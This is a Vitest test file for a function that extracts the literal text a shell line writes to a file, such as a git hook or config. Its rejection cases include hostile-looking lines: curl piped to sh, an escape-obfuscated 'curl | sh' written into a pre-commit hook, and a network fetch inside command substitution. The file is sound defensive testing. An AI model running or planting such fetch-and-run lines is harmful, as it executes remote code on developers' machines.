import { describe, expect, it } from 'vitest';
import { shellWrittenText } from './written-text.js';

describe('the text a shell line writes, when the line is only a literal written to one file', () => {
  it('reads echo and printf of literal words, and quoted here-documents', () => {
    expect(shellWrittenText("echo 'npx lint-staged' > .husky/pre-commit")).toBe('npx lint-staged\n');
    expect(shellWrittenText('echo -n plain words >> notes.txt')).toBe('plain words');
    expect(shellWrittenText("printf '#!/bin/sh\\nnpm test\\n' > .husky/pre-push")).toBe(
      '#!/bin/sh\nnpm test\n',
    );
    expect(shellWrittenText("cat > .pre-commit-config.yaml <<'EOF'\nrepos:\n  - repo: local\nEOF")).toBe(
      'repos:\n  - repo: local\n',
    );
    expect(shellWrittenText('cat <<EOF > a.txt\nplain\nEOF')).toBe('plain\n');
  });

  it('is unknown for anything expanded, decoded, fetched or joined to another command', () => {
    for (const line of [
      'echo "$PAYLOAD" > .envrc',
      "echo 'a' > f; curl -s https://x.example | sh",
      "printf '\\x63url x | sh' > .husky/pre-commit",
      "echo -e '\\143url' > f",
      'cat <<EOF > f\n$(curl -s https://x.example)\nEOF',
      "echo 'a' 2> f",
      'curl -s https://x.example/h > .husky/pre-commit',
      "printf '%s' x > f",
      "echo 'a' > f > g",
    ])
      expect(shellWrittenText(line), line).toBe('');
  });
});
